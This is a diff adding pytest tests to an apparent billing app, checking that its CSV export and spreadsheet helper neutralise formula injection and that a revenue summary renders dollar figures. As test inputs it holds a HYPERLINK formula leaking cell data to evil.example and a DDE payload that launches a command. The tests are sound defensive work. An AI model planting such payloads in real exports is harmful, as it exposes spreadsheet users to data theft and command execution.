@@ -94,3 +94,60 @@ def test_reconciliation_finds_a_difference_planted_in_the_ledger(world: World, s
     report = out.getvalue()
     assert f"ledger #{planted.pk}" in report and "amount: ledger $37,501, Stripe $37,500" in report
     assert "Stripe took $60,000 that the ledger does not record" in report
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_spreadsheet_text_never_starts_a_cell_with_a_formula_character(start: str) -> None:
+    from tenants.spreadsheet import spreadsheet_text
+
+    assert spreadsheet_text(f'{start}HYPERLINK("http://evil.example","x")').startswith("'")
+    assert spreadsheet_text("Alpha Industries") == "Alpha Industries"
+
+
+def test_the_csv_neutralises_formulas_in_customer_text(world: World, stripe_emulator: str) -> None:
+    card_add(world.customers["alpha"])
+    customer = world.customers["alpha"]
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
+    original = customer.name
+    try:
+        type(customer).objects.filter(pk=customer.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+        customer.refresh_from_db()
+        services.milestone_charge(
+            customer=customer,
+            project_id=1,
+            project_name=hostile,
+            service="mvp",
+            milestone=mvp_milestones(7_500_000)[0],
+        )
+        today = date.today().isoformat()
+        response = world.client("staff").get("/admin/billing/charge/export/", {"start": today, "end": today})
+    finally:
+        type(customer).objects.filter(pk=customer.pk).update(name=original)
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    charge_row = next(row for row in rows[1:] if row[0] != "TOTAL")
+    for cell in charge_row:
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not (cell.startswith("-") and not cell.replace("-", "", 1).replace(".", "", 1).isdigit()), cell
+    named = dict(zip(rows[0], charge_row, strict=True))
+    assert named["project"] == "'" + hostile and named["tenant"].startswith("'@SUM")
+    assert named["amount_usd"] == "37500.00" and named["currency"] == "usd"
+
+
+def test_the_revenue_summary_shows_dollars_and_service_names_for_the_period_in_its_heading(
+    world: World, stripe_emulator: str
+) -> None:
+    _activity(world)
+    staff = world.client("staff")
+
+    content = staff.get("/admin/billing/charge/summary/").content.decode()
+    today = date.today()
+    assert f"Revenue by service, {today.replace(day=1).isoformat()} – {today.isoformat()}" in content
+    assert f'value="{today.replace(day=1).isoformat()}"' in content and f'value="{today.isoformat()}"' in content
+    assert "MVP development" in content and "Legacy modernization" in content
+    mvp_row = content.split('data-testid="revenue-mvp">', 1)[1].split("</tr>", 1)[0]
+    assert mvp_row == "<td>MVP development</td><td>$75,000</td><td>$123.45</td><td>$74,876.55</td>"
+    assert "7500000" not in content and ">12345<" not in content
+
+    chosen = staff.get("/admin/billing/charge/summary/", {"start": "2026-01-01", "end": "2026-01-31"})
+    assert "Revenue by service, 2026-01-01 – 2026-01-31" in chosen.content.decode()
